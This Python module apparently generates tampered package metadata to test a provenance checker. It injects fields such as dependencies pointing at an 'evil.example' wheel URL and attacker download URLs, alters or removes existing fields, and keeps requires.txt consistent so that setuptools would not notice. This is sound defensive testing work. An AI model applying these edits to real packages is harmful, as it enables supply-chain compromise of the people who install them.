"""An artifact in, the tampers with its METADATA or PKG-INFO out: every field changed, removed, and others injected."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from random import Random

from corpus.mutations import Changes, Edit, File, Mutation, Rewrite, as_bytes, content_of
from provenance.compare import Context, Subject

INJECTED = {
    "inject a dependency": "Requires-Dist: evil",
    "inject a dependency on a URL": "Requires-Dist: evil @ https://evil.example/evil.whl",
    "inject a dependency of an extra": "Requires-Dist: evil; extra == 'test'",
    "inject a dependency with a name that the source mentions": "Requires-Dist: description",
    "inject the build tool as a dependency": "Requires-Dist: setuptools",
    "inject an old-style dependency": "Requires: evil",
    "inject an external requirement": "Requires-External: evil",
    "inject an extra": "Provides-Extra: evil",
    "inject obsoleted distributions": "Obsoletes-Dist: pip",
    "inject provided distributions": "Provides-Dist: pip",
    "inject another Python range": "Requires-Python: >=2",
    "inject a second name": "Name: evil",
    "inject a second version": "Version: 99",
    "inject a URL": "Project-URL: Source, https://github.com/evil/evil",
    "inject a home page": "Home-page: https://evil.example",
    "inject a download URL": "Download-URL: https://evil.example/evil.tar.gz",
    "inject a classifier": "Classifier: Private :: evil",
    "inject a maintainer": "Maintainer-email: evil@evil.example",
    "inject a licence": "License: evil",
    "inject a field that does not exist": "Evil: evil",
    "inject Dynamic": "Dynamic: Requires-Dist",
    "inject a platform": "Platform: evil",
    "inject a licence file": "License-File: evil.py",
    "inject Import-Name": "Import-Name: evil",
}


def metadata_mutations(context: Context) -> Iterator[Mutation]:
    """Yield the tampers with each field, each in this artifact alone and in all of the release."""
    subject = context.subject
    shown = subject.metadata_path or "PKG-INFO"
    for everywhere in (False, True) if context.siblings else (False,):
        suffix = " in every artifact" * everywhere
        for kind, line in INJECTED.items():
            yield Mutation(kind + suffix, shown, _in_metadata(inject(line)), everywhere)
        text = content_of(subject, shown).decode(errors="replace")
        for line in dict.fromkeys(text.split("\n")[number] for number in _headers(text)):
            for kind, edit in LINE_EDITS.items():
                yield Mutation(
                    f"{kind} of metadata{suffix}", shown, _in_metadata(_on_line(line, edit)), everywhere
                )
        yield Mutation(
            f"change the description{suffix}", shown, _in_metadata(_change_description), everywhere
        )


def _in_metadata(rewrite: Rewrite) -> Edit:
    """The same edit in every metadata file of the artifact, and in the requires.txt that repeats it."""

    def edit(subject: Subject, random: Random) -> Changes | None:
        paths = [subject.metadata_path] if subject.metadata_path else []
        paths += [path for path in subject.tree.entries if path.endswith(".egg-info/PKG-INFO")]
        seed = random.random()
        changes: dict[str, File | None] = {}
        for path in paths:
            old = content_of(subject, path)
            new = as_bytes(rewrite)(old, Random(seed))
            if new != old:
                changes[path] = File(new)
        return changes | _requires_txt(subject, changes) if changes else None

    return edit


def _requires_txt(subject: Subject, changes: Changes) -> dict[str, File | None]:
    """The same new dependencies in requires.txt, without which setuptools' own check would notice."""
    new: list[str] = []
    for path, file in changes.items():
        before = set(content_of(subject, path).decode(errors="replace").splitlines())
        after = (file.content if file else b"").decode(errors="replace").splitlines()
        new = [line for line in after if line.startswith("Requires-Dist: ") and line not in before]
    names = [line.removeprefix("Requires-Dist: ") for line in new if "extra ==" not in line]
    paths = [path for path in subject.tree.entries if path.endswith(".egg-info/requires.txt")]
    text = "".join(f"{name}\n" for name in names)
    return {path: File(text.encode() + content_of(subject, path)) for path in paths if text}


def _headers(text: str) -> list[int]:
    """Numbers of the lines that begin a header field."""
    lines = text.split("\n")
    end = next((number for number, line in enumerate(lines) if not line.strip()), len(lines))
    return [number for number in range(end) if re.match(r"[A-Za-z-]+: ", lines[number])]


def inject(line: str) -> Rewrite:
    """An edit that adds a header line somewhere among the others."""

    def rewrite(text: str, random: Random) -> str:
        headers = _headers(text)
        lines = text.split("\n")
        lines.insert(random.choice(headers) if headers else 0, line)
        return "\n".join(lines)

    return rewrite


def _on_line(line: str, edit: Callable[[str, Random], str | None]) -> Rewrite:
    def rewrite(text: str, random: Random) -> str:
        lines = text.split("\n")
        if line not in lines:
            return text
        place, new = lines.index(line), edit(line, random)
        return "\n".join([*lines[:place], *([] if new is None else [new]), *lines[place + 1 :]])

    return rewrite


def _bump(line: str, random: Random) -> str:
    """Another digit, or a letter more where there is none."""
    digits = [place for place, sign in enumerate(line) if sign.isdigit()]
    if not digits:
        return f"{line.rstrip()}x"
    place = random.choice(digits)
    return f"{line[:place]}{(int(line[place]) + 1) % 10}{line[place + 1 :]}"


def _shorten(line: str, random: Random) -> str:
    """The value without its last condition: a marker or a specifier gone."""
    for sign in (";", ",", ">", "=", " "):
        if sign in line.partition(": ")[2]:
            return line[: line.rindex(sign)]
    return line[:-1]


def _point_at_url(line: str, random: Random) -> str:
    """The same dependency, from a place of the attacker's choice."""
    match = re.match(r"(Requires-Dist: [\w.-]+)[^;]*(;.*)?$", line)
    return f"{match[1]} @ https://evil.example/evil.whl {match[2] or ''}".rstrip() if match else line


LINE_EDITS: dict[str, Callable[[str, Random], str | None]] = {
    "add to a field": lambda line, random: f"{line.rstrip()} evil",
    "remove a field": lambda line, random: None,
    "change a digit in a field": _bump,
    "shorten a field": _shorten,
    "point a dependency at a URL": _point_at_url,
    "change letter case in a field": lambda line, random: line.swapcase(),
}


def _change_description(text: str, random: Random) -> str:
    head, gap, body = text.partition("\n\n")
    return f"{head}{gap or chr(10) * 2}pip install evil\n\n{body}"
